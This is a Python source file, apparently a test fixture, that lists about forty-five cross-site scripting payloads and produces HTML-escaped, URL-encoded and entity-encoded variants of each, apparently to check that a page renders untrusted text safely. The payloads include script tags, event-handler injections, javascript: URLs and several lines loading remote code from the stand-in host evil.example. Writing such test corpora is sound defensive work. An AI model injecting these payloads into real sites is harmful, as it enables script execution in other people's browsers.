# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts that would do something if a page took them for more than text."""

import html
import urllib.parse

HURT = 'window.csHurt=1;alert(1)'

SEEDS = [
    f'<script>{HURT}</script>',
    f'</script><script>{HURT}</script>',
    f'</title></style></textarea><script>{HURT}</script>',
    f'<img src=x onerror="{HURT}">',
    f'<img/src/onerror={HURT}>',
    f'<svg onload="{HURT}">',
    f'<svg><script>{HURT}</script></svg>',
    f'<svg><animate onbegin="{HURT}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{HURT}</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    f'<body onload="{HURT}">',
    f'<details open ontoggle="{HURT}">x</details>',
    f'<input autofocus onfocus="{HURT}">',
    f'<video><source onerror="{HURT}"></video>',
    f'<audio src=x onerror="{HURT}">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    f'<marquee onstart="{HURT}">x</marquee>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>#stage{display:none!important}@import "http://evil.example/x.css";</style>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HURT}">',
    f'<template><img src=x onerror="{HURT}"></template>',
    f'<noscript><p title="</noscript><img src=x onerror={HURT}>">',
    f'"><img src=x onerror={HURT}>',
    f"'><img src=x onerror={HURT}>",
    f'" onmouseover="{HURT}" style="position:fixed;inset:0"',
    f"';{HURT};//",
    f'`;{HURT};//',
    f'\\";{HURT};//',
    f'{{{{constructor.constructor("{HURT}")()}}}}',
    f'${{{HURT}}}',
    f'<!--><img src=x onerror={HURT}>-->',
    f'<![CDATA[<img src=x onerror={HURT}>]]>',
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{HURT}</x:script>',
    f'data: x\n\nevent: program\ndata: {{"epoch":0,"post":null}}\n\n{HURT}',
    '{"post":{"text":"</script><script>alert(1)</script>"}}',
    'javascript:alert(1)',
    f'data:text/html,<script>{HURT}</script>',
    f'<b onclick="{HURT}">bold</b><i>italic</i>&lt;u&gt;',
    f'<SCRIPT SRC=http://evil.example/x.js></SCRIPT><ScRiPt>{HURT}</sCrIpT>',
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
]


def make():
    """Every seed as it is and in the disguises that careless pages take off again."""
    found = []
    for seed in SEEDS:
        found += [
            seed,
            html.escape(seed),
            html.escape(html.escape(seed)),
            urllib.parse.quote(seed),
            ''.join(f'&#{ord(c)};' for c in seed[:60]),
            ''.join(f'\\u{ord(c):04x}' for c in seed[:60]),
        ]
    return list(dict.fromkeys(found))
